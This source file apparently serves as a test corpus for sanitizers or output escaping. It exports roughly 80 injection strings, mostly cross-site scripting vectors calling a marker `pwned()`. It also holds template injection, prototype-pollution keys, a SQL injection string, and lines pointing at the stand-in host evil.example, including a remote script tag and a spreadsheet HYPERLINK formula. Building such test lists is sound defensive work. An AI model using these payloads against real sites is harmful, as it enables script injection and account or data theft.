// Texts that would run as script or break a page wherever one is taken for markup, an address, a style
// or code. Each calls `pwned`. Refuses to be complete: it is wide.

const script = "pwned()";

/** At least 60, each another way in. */
export const PAYLOADS = [
  "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>pwned()//", "<<script>pwned();//<</script>", "</script><script>pwned()</script>",
  "</title><script>pwned()</script>", "</textarea><script>pwned()</script>", "</style><script>pwned()</script>", "--><script>pwned()</script>", "]]><script>pwned()</script>", "<!--<img src=x onerror=pwned()>-->",
  "<img src=x onerror=pwned()>", "<img src=x onerror='pwned()'>", "<img src=x onerror=\"pwned()\">", "<img/src=x/onerror=pwned()>", "<img src=x:x onerror=pwned()>", "<img src onerror=/\"_/onerror=pwned()//\">",
  "\"><img src=x onerror=pwned()>", "'><img src=x onerror=pwned()>", "`><img src=x onerror=pwned()>", "\" onmouseover=pwned() x=\"", "' onfocus=pwned() autofocus x='", "x\" autofocus onfocus=\"pwned()",
  "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>", "<svg><foreignObject><body onload=pwned()></foreignObject></svg>",
  "<svg><use href=data:image/svg+xml,<svg/onload=pwned()>#x></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", "<body onload=pwned()>", "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<object data=javascript:pwned()></object>",
  "<embed src=javascript:pwned()>", "<a href=javascript:pwned()>x</a>", "<a href=\"java\tscript:pwned()\">x</a>", "<a href=&#106;avascript:pwned()>x</a>", "javascript:pwned()", "JaVaScRiPt:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()",
  "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>", "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>", "<marquee onstart=pwned()>", "<meter onmouseover=pwned()>0</meter>",
  "<form><button formaction=javascript:pwned()>x</button></form>", "<form id=x></form><button form=x formaction=javascript:pwned()>x</button>", "<meta http-equiv=refresh content='0;url=javascript:pwned()'>", "<link rel=stylesheet href=javascript:pwned()>", "<base href=javascript:pwned()//>", "<style>@import'javascript:pwned()';</style>",
  "<style>*{background:url(javascript:pwned())}</style>", "<div style=background:url(javascript:pwned())>", "<div style=width:expression(pwned())>", "<template><script>pwned()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">", "<x onclick=pwned()>x</x>",
  "<x contenteditable onblur=pwned()>x</x>", "${pwned()}", "{{constructor.constructor('pwned()')()}}", "#{pwned()}", "<%= pwned() %>", "\\\"};pwned();//", "'-pwned()-'", "\";pwned();//",
  "\u2028pwned()\u2029", "\u202e<script>pwned()</script>", "%3Cscript%3Epwned()%3C/script%3E", "&lt;script&gt;pwned()&lt;/script&gt;", "\u003cscript\u003epwned()\u003c/script\u003e", "<a target=_blank rel=opener href=//evil.example>x</a>", "=HYPERLINK(\"//evil.example\";\"x\")", "[x](javascript:pwned())",
  "__proto__", "constructor", "' OR 1=1 --", `${"A".repeat(300)}<script>${script}</script>`,
];
